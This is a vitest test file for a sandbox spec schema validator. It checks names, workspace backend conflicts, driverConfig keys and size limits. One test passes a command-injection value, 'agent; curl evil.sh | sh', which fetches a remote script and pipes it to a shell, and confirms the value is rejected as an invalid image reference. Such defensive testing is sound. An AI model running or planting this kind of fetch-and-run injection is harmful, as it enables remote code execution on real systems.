import { describe, expect, it } from "vitest";
import { sandboxSpecSchema } from "./sandbox-spec.ts";
import { specProblems } from "./test-fixtures.ts";

describe("sandboxSpecSchema", () => {
  it("accepts a bare name and fills in only what has no gateway default", () => {
    expect(sandboxSpecSchema.parse({ name: "my-box" })).toEqual({
      name: "my-box",
      profile: "generic",
      env: [],
      workspace: {},
      volumes: [],
      disruptionPolicy: { evictionProtection: false, terminationGracePeriodSeconds: 30, checkpointFailurePolicy: "Block", autoRecoverFailedPods: true, snapshotOnCheckpoint: false },
    });
  });

  it("refuses a name that is not a DNS-1123 label", () => {
    expect(specProblems({ name: "My_Box" })).toMatchObject([{ path: ["name"], message: expect.stringContaining("lower case letters") }]);
  });

  it("refuses a name longer than 63 characters", () => {
    expect(specProblems({ name: "a".repeat(64) })).toMatchObject([{ path: ["name"], message: "name must be at most 63 characters" }]);
  });

  it("refuses a key it does not know instead of dropping it", () => {
    expect(specProblems({ evictionProtection: true })).toMatchObject([{ code: "unrecognized_keys", path: [] }]);
  });

  it("refuses the custom profile without an image, at image", () => {
    expect(specProblems({ profile: "custom" })).toEqual([
      {
        code: "profile.custom-needs-image",
        path: ["image"],
        message: "profile custom has no image of its own: set image to the container image to run, e.g. ghcr.io/example/agent:1.0",
      },
    ]);
  });

  it("refuses an unknown workspace backend, at workspace.backend", () => {
    expect(specProblems({ workspace: { backend: "nfs" } })).toMatchObject([{ path: ["workspace", "backend"], message: "workspace backend must be one of: pvc, ephemeral" }]);
  });

  it("refuses an unknown driverConfig key, at driverConfig.kubernetes", () => {
    expect(specProblems({ driverConfig: { kubernetes: { storage_class: "x" } } })).toMatchObject([
      { code: "unrecognized_keys", path: ["driverConfig", "kubernetes"], message: expect.stringContaining("allowed keys: workspace_backend") },
    ]);
  });

  it("refuses workspace.backend and driverConfig.kubernetes.workspace_backend that disagree", () => {
    expect(specProblems({ workspace: { backend: "pvc" }, driverConfig: { kubernetes: { workspace_backend: "ephemeral" } } })).toEqual([
      {
        code: "workspace.backend-conflict",
        path: ["workspace", "backend"],
        message: "workspace.backend (pvc) and driverConfig.kubernetes.workspace_backend (ephemeral) disagree; set only one of them, or set both to the same backend",
      },
    ]);
  });

  it("accepts workspace.backend and driverConfig.kubernetes.workspace_backend that agree", () => {
    expect(specProblems({ workspace: { backend: "pvc" }, driverConfig: { kubernetes: { workspace_backend: "pvc" } } })).toEqual([]);
  });

  describe("an ephemeral workspace with storage", () => {
    it("refuses workspace.claim.size, naming it and workspace.backend", () => {
      expect(specProblems({ workspace: { backend: "ephemeral", claim: { size: "5Gi" } } })).toEqual([
        {
          code: "workspace.ephemeral-with-storage",
          path: ["workspace", "claim", "size"],
          message:
            "workspace.claim.size is set, but workspace.backend is ephemeral: an ephemeral workspace is an emptyDir with no claim to size or give a class. Remove workspace.claim.size, or set workspace.backend to pvc",
        },
      ]);
    });

    it('refuses workspace.claim.storageClassName, even "" (no class)', () => {
      expect(specProblems({ workspace: { backend: "ephemeral", claim: { storageClassName: "" } } })).toMatchObject([
        { code: "workspace.ephemeral-with-storage", path: ["workspace", "claim", "storageClassName"] },
      ]);
    });

    it("refuses driverConfig's size, naming it and driverConfig's backend", () => {
      expect(specProblems({ driverConfig: { kubernetes: { workspace_backend: "ephemeral", workspace_default_storage_size: "5Gi" } } })).toEqual([
        {
          code: "workspace.ephemeral-with-storage",
          path: ["driverConfig", "kubernetes", "workspace_default_storage_size"],
          message:
            "driverConfig.kubernetes.workspace_default_storage_size is set, but driverConfig.kubernetes.workspace_backend is ephemeral: an ephemeral workspace is an emptyDir with no claim to size or give a class. Remove driverConfig.kubernetes.workspace_default_storage_size, or set driverConfig.kubernetes.workspace_backend to pvc",
        },
      ]);
    });

    it("refuses driverConfig's storage class with driverConfig's backend ephemeral", () => {
      expect(specProblems({ driverConfig: { kubernetes: { workspace_backend: "ephemeral", workspace_storage_class: "fast" } } })).toMatchObject([
        { code: "workspace.ephemeral-with-storage", path: ["driverConfig", "kubernetes", "workspace_storage_class"] },
      ]);
    });

    it("refuses a claim size when driverConfig made the workspace ephemeral", () => {
      expect(specProblems({ workspace: { claim: { size: "5Gi" } }, driverConfig: { kubernetes: { workspace_backend: "ephemeral" } } })).toMatchObject([
        {
          code: "workspace.ephemeral-with-storage",
          path: ["workspace", "claim", "size"],
          message: expect.stringContaining("but driverConfig.kubernetes.workspace_backend is ephemeral"),
        },
      ]);
    });

    it("refuses a driverConfig storage class when workspace.backend made the workspace ephemeral", () => {
      expect(specProblems({ workspace: { backend: "ephemeral" }, driverConfig: { kubernetes: { workspace_storage_class: "fast" } } })).toMatchObject([
        {
          code: "workspace.ephemeral-with-storage",
          path: ["driverConfig", "kubernetes", "workspace_storage_class"],
          message: expect.stringContaining("but workspace.backend is ephemeral"),
        },
      ]);
    });
  });

  it("refuses claim fields on an ephemeral workspace, at each field", () => {
    expect(specProblems({ workspace: { backend: "ephemeral", claim: { ownership: "retain" } } })).toEqual([
      {
        code: "workspace.claim-on-ephemeral",
        path: ["workspace", "claim", "ownership"],
        message: "workspace.claim.ownership only applies to a pvc workspace, but workspace.backend is ephemeral. Remove workspace.claim.ownership, or set workspace.backend to pvc",
      },
    ]);
  });

  it("accepts an empty claim on an ephemeral workspace, as a form switching backends sends it", () => {
    expect(specProblems({ workspace: { backend: "ephemeral", claim: {} } })).toEqual([]);
  });

  it("reports problems in different parts of the spec together", () => {
    const problems = specProblems({ name: "Bad", env: [{ name: "A", value: "1" }, { name: "A", value: "2" }], disruptionPolicy: { checkpointGracePeriodSeconds: 60 } });
    expect(problems.map((problem) => problem.path)).toEqual([["name"], ["env", 1, "name"], ["disruptionPolicy", "checkpointGracePeriodSeconds"]]);
  });
});

describe("what a spec may carry into its Sandbox", () => {
  it("refuses an image that is no image reference, naming the field", () => {
    expect(specProblems({ image: "agent; curl evil.sh | sh" })).toMatchObject([{ code: "image.invalid-reference", path: ["image"] }]);
  });

  it("refuses a command of more than 256 arguments", () => {
    expect(specProblems({ command: Array.from({ length: 257 }, () => "x") })).toMatchObject([{ path: ["command"], message: expect.stringContaining("at most 256 arguments") }]);
  });

  it("refuses one argument over 32 KiB, naming it", () => {
    expect(specProblems({ command: ["sh", "-c", "x".repeat(32 * 1024 + 1)] })).toMatchObject([{ path: ["command", 2], message: expect.stringContaining("at most 32 KiB") }]);
  });

  it("refuses an env value over 32 KiB, naming it", () => {
    expect(specProblems({ env: [{ name: "BIG", value: "x".repeat(32 * 1024 + 1) }] })).toMatchObject([{ path: ["env", 0, "value"] }]);
  });

  it("refuses a spec whose parts are each within their limits but together are over 256 KiB", () => {
    const env = Array.from({ length: 10 }, (_, index) => ({ name: `V${index}`, value: "x".repeat(30 * 1024) }));
    expect(specProblems({ env })).toMatchObject([{ code: "limit.too-long", path: [], message: expect.stringContaining("more than 256 KiB") }]);
  });
});
